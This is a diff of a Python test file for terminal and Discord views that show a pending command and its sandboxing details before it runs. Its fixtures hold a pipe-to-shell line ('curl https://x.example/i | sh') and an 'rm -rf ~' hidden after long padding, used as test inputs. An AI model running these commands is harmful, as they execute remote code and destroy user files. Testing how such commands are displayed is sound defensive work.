@@ -34,6 +34,7 @@ RUNS = Runs(
     argv=("/bin/sh", "-c", "curl https://x.example/i | sh"),
     folder="/home/me/shop",
     environment=("CI=1",),
+    containment="bubblewrap: Pulse's files hidden",
     defined_by=(DefinedBy(path="pyproject.toml", sha256="5f" * 32),),
 )
 LONG = replace(RUNS, summary=f"{'a' * 5_000} && rm -rf ~ in shop")
@@ -52,7 +53,7 @@ def test_the_terminal_shows_it_and_says_what_does_not_fit() -> None:
     drawn = plain_text(render(view(shown(runs=RUNS)), 100, 24, NOW))
     assert f"▶ {COMMAND}" in drawn
     details = plain_text(render(view(shown(runs=RUNS), details=True), 100, 40, NOW))
-    assert all(part in details for part in ("/home/me/shop", "CI=1", "pyproject.toml (5f5f5f5f5f5f)"))
+    assert all(part in details for part in ("/home/me/shop", "CI=1", RUNS.containment, "pyproject.toml (5f5f5f5f5f5f)"))
     cut = plain_text(render(view(shown(runs=LONG)), 60, 30, NOW))
     assert "more: i shows all of it" in cut
 
@@ -107,7 +108,10 @@ def test_discord_shows_it_with_every_sign_and_says_when_it_is_cut(runs: Runs) ->
     assert (COMMAND in unescaped) if runs is RUNS else ("Cut: Details" in unescaped)
     whole = discord.render_details(made)
     shown_in = next(field.value for field in whole.embeds[0].fields if field.name == "Runs")
-    assert all(end in (shown_in if runs is RUNS else whole.files[0].text) for end in ("sh", "/home/me/shop", "CI=1"))
+    assert all(
+        end in (shown_in if runs is RUNS else whole.files[0].text)
+        for end in ("sh", "/home/me/shop", "CI=1", RUNS.containment)
+    )
 
 
 @pytest.mark.parametrize(("lang", "words"), [("en", "It runs:"), ("de", "Ausgeführt wird:")])
